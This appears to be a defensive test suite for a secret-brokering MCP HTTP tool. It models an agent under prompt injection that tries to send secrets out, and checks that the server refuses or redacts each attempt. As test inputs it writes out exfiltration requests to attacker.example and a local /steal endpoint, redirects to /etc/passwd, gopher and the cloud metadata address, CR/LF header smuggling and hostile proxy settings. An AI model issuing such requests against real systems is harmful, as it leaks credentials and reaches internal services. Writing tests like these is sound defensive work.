// The agent is hostile: a prompt injection drives every tool call. Each case goes through the real
// server (the built CLI's `serve`, spawned) over MCP with the SDK's Client, and asserts both that
// the agent saw no trace of any value (every encoding) and that nothing reached the attacker's
// server, to which no secret is bound (no request, no TCP connection). SSRF and DNS cases are in
// ssrf.test.ts.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { filesContaining, runCli, tempHome, type TempHome } from '../helpers/cli.js';
import { seedSecret } from '../helpers/inprocess.js';
import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
import { startStub, type Stub } from '../helpers/stub.js';
import { expectNoTrace, expectOutcome } from '../helpers/traces.js';

const KEY = 'sk-live+Adv/ers=ar"ial\'&<key>-9f8e7d6c5b4a';
const PATHKEY = 'pk-path-Value-Q1w2E3r4T5y6U7i8';
const HDR = 'hdr-only-Value-Zx9Cv8Bn7Mm6Ll5';
const VALUES = [KEY, PATHKEY, HDR];

let t: TempHome;
let api: Stub; // the API the secrets are bound to
let attacker: Stub; // nothing is bound to it; listens on :: so IPv4 and IPv6 loopback both reach it
let plain: StdioSession;

const call = (s: StdioSession, args: Record<string, unknown>) => s.call('http_request', args);
const bearer = { Authorization: 'Bearer <secrets.KEY>' };

function attackerSawNothing(): void {
  expect(attacker.requests, 'attacker received a request').toHaveLength(0);
  expect(attacker.connections(), 'attacker received a connection').toBe(0);
}

beforeAll(async () => {
  api = await startStub();
  // On '::' the attacker is reachable over IPv4 and IPv6 loopback alike; a host without IPv6 falls back to IPv4.
  attacker = await startStub({ host: '::' }).catch(() => startStub({ host: '127.0.0.1' }));
  t = tempHome();
  const set = (name: string, value: string, ...flags: string[]) => seedSecret(t.env, name, value, ...flags);
  await set('KEY', KEY, '--host', api.origin, '--placement', 'header', '--placement', 'query', '--placement', 'body');
  await set('PATHKEY', PATHKEY, '--host', api.origin, '--placement', 'path');
  await set('HDR', HDR, '--host', api.origin);
  plain = await connectStdio(t.env);
});

beforeEach(() => {
  api.reset();
  attacker.reset();
});

afterAll(async () => {
  await plain?.close();
  await api?.close();
  await attacker?.close();
  // Over the whole suite: no value in the servers' stderr or any file under the home folder.
  expectNoTrace(plain.stderr(), VALUES, 'server stderr');
  expect(filesContaining(t.home, VALUES)).toEqual([]);
  t.cleanup();
});

describe('redirects never carry a secret elsewhere and never reach private addresses', () => {
  for (const status of [301, 302, 303, 307, 308]) {
    it(`${status} to the attacker with a secret comes back to the agent, unfollowed`, async () => {
      const to = encodeURIComponent(`http://localhost:${attacker.port}/steal`);
      const r = await call(plain, { method: 'POST', url: `${api.url}/redirect?status=${status}&to=${to}`, headers: bearer, body: 'token=<secrets.KEY>' });
      expectOutcome(r, { redacted: [] }); // the redirect itself echoes nothing
      expect((r.structuredContent as { status: number }).status).toBe(status);
      expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toBeTruthy();
      expectNoTrace(visible(r), VALUES);
      attackerSawNothing();
    });
  }

  it('a secret-free redirect to a private address is refused at the hop', async () => {
    const to = encodeURIComponent(`http://127.0.0.1:${attacker.port}/internal`);
    const r = await call(plain, { method: 'GET', url: `${api.url}/redirect?status=302&to=${to}` });
    expect(r.isError).toBe(true);
    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
    attackerSawNothing();
  });

  it('a 307 re-post to the metadata address is refused', async () => {
    const to = encodeURIComponent('http://169.254.169.254/latest/meta-data/');
    const r = await call(plain, { method: 'POST', url: `${api.url}/redirect?status=307&to=${to}`, body: 'x=1' });
    expect(r.isError).toBe(true);
    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
  });

  it('a redirect to file: or gopher: is never followed', async () => {
    for (const to of ['file:///etc/passwd', 'gopher://127.0.0.1:6379/_x']) {
      const r = await call(plain, { method: 'GET', url: `${api.url}/redirect?status=302&to=${encodeURIComponent(to)}`, headers: bearer });
      expectOutcome(r, { redacted: [] });
      expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toMatch(/never followed/);
    }
  });
});

describe('values reflected by the API come back scrubbed, in every encoding', () => {
  for (const as of ['raw', 'base64', 'base64url', 'basic', 'hex', 'HEX', 'url', 'form', 'json', 'html']) {
    it(`reflected as ${as}`, async () => {
      const r = await call(plain, { method: 'GET', url: `${api.url}/reflect?as=${as}`, headers: bearer });
      expectOutcome(r, { redacted: ['KEY'] });
      expect(api.requests[0]!.headers.authorization).toBe(`Bearer ${KEY}`);
      expectNoTrace(visible(r), VALUES);
    });
  }

  it.each([
    ['the JSON echo of headers', { method: 'GET', url: '/echo', headers: bearer }, ['KEY']],
    ['a query value echoed in the URL', { method: 'GET', url: '/echo?k=<secrets.KEY>' }, ['KEY']],
    ['a body echoed back', { method: 'POST', url: '/echo', body: 'k=<secrets.KEY>' }, ['KEY']],
    ['a JSON body echoed back', { method: 'POST', url: '/echo', json: { k: '<secrets.KEY>', nested: ['<secrets.KEY>'] } }, ['KEY']],
    // A 404: the value comes back only in the final URL (checked for its marker below).
    ['a path value echoed back', { method: 'GET', url: '/echo/<secrets.PATHKEY>' }, []],
    ['response headers', { method: 'GET', url: '/headers', headers: { 'X-Api-Key': '<secrets.HDR>', Authorization: 'Bearer <secrets.KEY>' } }, ['HDR', 'KEY']],
    ['a 401 status text, WWW-Authenticate and body', { method: 'GET', url: '/unauthorized', headers: bearer }, ['KEY']],
    ['a redirect Location and body', { method: 'GET', url: '/redirect-echo', headers: bearer }, ['KEY']],
    ['a gzip body', { method: 'GET', url: '/gzip', headers: bearer }, ['KEY']],
    ['a brotli body', { method: 'GET', url: '/br', headers: bearer }, ['KEY']],
    ['a deflate body', { method: 'GET', url: '/deflate', headers: bearer }, ['KEY']],
  ] as Array<[string, Record<string, unknown> & { url: string }, string[]]>)('in %s', async (_label, req, names) => {
    const r = await call(plain, { ...req, url: `${api.url}${req.url}` });
    expect(api.requests.length).toBeGreaterThan(0);
    expectOutcome(r, { redacted: names });
    if (names.length === 0) expect(visible(r)).toContain('[REDACTED:PATHKEY]');
    expectNoTrace(visible(r), VALUES);
  });

  it('a value this process resolved earlier is scrubbed from a later, secret-free response', async () => {
    await call(plain, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
    const r = await call(plain, { method: 'GET', url: `${api.url}/last` });
    expectOutcome(r, { redacted: ['KEY'] });
    expect(visible(r)).toContain('[REDACTED:KEY]');
    expectNoTrace(visible(r), VALUES);
  });

  it('redaction runs before truncation: a cut in the middle of a value leaks no prefix of it', async () => {
    const named = new Set<string>();
    for (let maxBytes = 60; maxBytes < 200; maxBytes += 7) {
      const r = await call(plain, { method: 'POST', url: `${api.url}/echo`, body: 'k=<secrets.KEY>', maxBytes });
      // A cut made before the value is read leaves nothing to scrub; some cut of the sweep must reach it.
      expectOutcome(r, { redacted: [] });
      for (const n of (r.structuredContent as { redacted: string[] }).redacted) named.add(n);
      const text = visible(r);
      for (let i = 0; i + 8 <= KEY.length; i++) expect(text.includes(KEY.slice(i, i + 8)), `maxBytes ${maxBytes}`).toBe(false);
    }
    expect([...named]).toContain('KEY');
  });
});

describe('requests that would move or smuggle a secret are refused with nothing sent', () => {
  it.each([
    ['secret in the host', 'PLACEMENT_NOT_ALLOWED', `http://<secrets.KEY>.example.com/`],
    ['secret in user info', 'PLACEMENT_NOT_ALLOWED', 'http://user:<secrets.KEY>@127.0.0.1/'],
    ['secret as the port', 'PLACEMENT_NOT_ALLOWED', 'http://127.0.0.1:<secrets.KEY>/'],
    ['secret in the scheme', 'PLACEMENT_NOT_ALLOWED', '<secrets.KEY>://127.0.0.1/'],
    ['secret in the fragment', 'PLACEMENT_NOT_ALLOWED', 'API/echo#<secrets.KEY>'],
    ['header-only secret in the query', 'PLACEMENT_NOT_ALLOWED', 'API/echo?x=<secrets.HDR>'],
    ['header-only secret in the path', 'PLACEMENT_NOT_ALLOWED', 'API/echo/<secrets.HDR>'],
    ['unknown secret name', 'SECRET_NOT_FOUND', 'API/echo?x=<secrets.NOPE>'],
  ])('%s', async (_label, code, url) => {
    const r = await call(plain, { method: 'GET', url: url.replace('API', api.url) });
    expectOutcome(r, { error: code });
    expect(api.requests).toHaveLength(0);
    expectNoTrace(visible(r), VALUES);
  });

  it('a secret aimed at the attacker is refused before any connection', async () => {
    for (const url of [`http://127.0.0.1:${attacker.port}/`, `http://localhost:${attacker.port}/`, `https://attacker.example/`]) {
      const r = await call(plain, { method: 'POST', url, headers: bearer, body: '<secrets.KEY>' });
      expect(r.isError).toBe(true);
      expect(visible(r)).toContain('HOST_NOT_ALLOWED');
    }
    attackerSawNothing();
  });

  it.each([
    ['Host', { Host: `127.0.0.1:${9}` }],
    ['Content-Length', { 'Content-Length': '0' }],
    ['Transfer-Encoding', { 'Transfer-Encoding': 'chunked' }],
    ['Connection', { Connection: 'close' }],
    ['Proxy-Authorization', { 'Proxy-Authorization': 'Bearer <secrets.KEY>' }],
    ['CR/LF in a value', { 'X-A': 'a\r\nX-Smuggled: <secrets.KEY>' }],
    ['LF in a value', { 'X-A': 'a\nb' }],
    ['CR/LF in a name', { 'X-A\r\nX-B': 'v' }],
  ])('refuses the %s header', async (_label, headers) => {
    const r = await call(plain, { method: 'GET', url: `${api.url}/echo`, headers: { ...headers, Authorization: 'Bearer <secrets.KEY>' } });
    expect(r.isError).toBe(true);
    expect(visible(r)).toMatch(/HEADER_NOT_ALLOWED|Input validation/);
    expect(api.requests).toHaveLength(0);
  });
});

describe('proxy variables are never honoured', () => {
  it('HTTP_PROXY, HTTPS_PROXY and ALL_PROXY pointing at the attacker change nothing', async () => {
    const proxyUrl = `http://127.0.0.1:${attacker.port}`;
    const session = await connectStdio({ ...t.env, HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl, ALL_PROXY: proxyUrl, http_proxy: proxyUrl, https_proxy: proxyUrl });
    try {
      const r = await call(session, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
      expectOutcome(r, { redacted: ['KEY'] });
      expect(api.requests).toHaveLength(1);
      expectNoTrace(visible(r), VALUES);
      attackerSawNothing();
    } finally {
      await session.close();
    }
  });
});

describe('binary bodies', () => {
  it('are summarised by content type only (no size, no hash: figures of bytes nobody scanned), never returned raw', async () => {
    const r = await call(plain, { method: 'GET', url: `${api.url}/binary?size=4096`, headers: bearer });
    const sc = r.structuredContent as { binary?: { contentType: string }; body?: string };
    expect(sc.binary).toEqual({ contentType: 'application/octet-stream' });
    expect(sc.body).toBeUndefined();
  });
});

describe('error paths carry no value', () => {
  it('connection refused on a bound origin', async () => {
    const closed = await startStub();
    const port = closed.port;
    await closed.close();
    expect(runCli(['set', 'DEAD', '--host', `http://127.0.0.1:${port}`, '--placement', 'query'], { env: t.env, input: KEY.replace('sk', 'dd') }).code).toBe(0);
    const r = await call(plain, { method: 'GET', url: `http://127.0.0.1:${port}/x?k=<secrets.DEAD>` });
    expect(r.isError).toBe(true);
    expect(visible(r)).toContain('UPSTREAM_ERROR');
    expectNoTrace(visible(r), [...VALUES, KEY.replace('sk', 'dd')]);
  });

  it('a timeout', async () => {
    const r = await call(plain, { method: 'GET', url: `${api.url}/slow?ms=3000&k=<secrets.KEY>`, timeoutMs: 200 });
    expect(r.isError).toBe(true);
    expect(visible(r)).toContain('TIMEOUT');
    expectNoTrace(visible(r), VALUES);
  });

  it('input validation errors echo no value (the agent never had one to give)', async () => {
    const r = await call(plain, { method: 'BREW', url: `${api.url}/echo`, headers: bearer });
    expectOutcome(r, { error: /Input validation/ }); // the SDK's schema check, before the broker
    expect(api.requests).toHaveLength(0);
    expectNoTrace(visible(r), VALUES);
  });
});
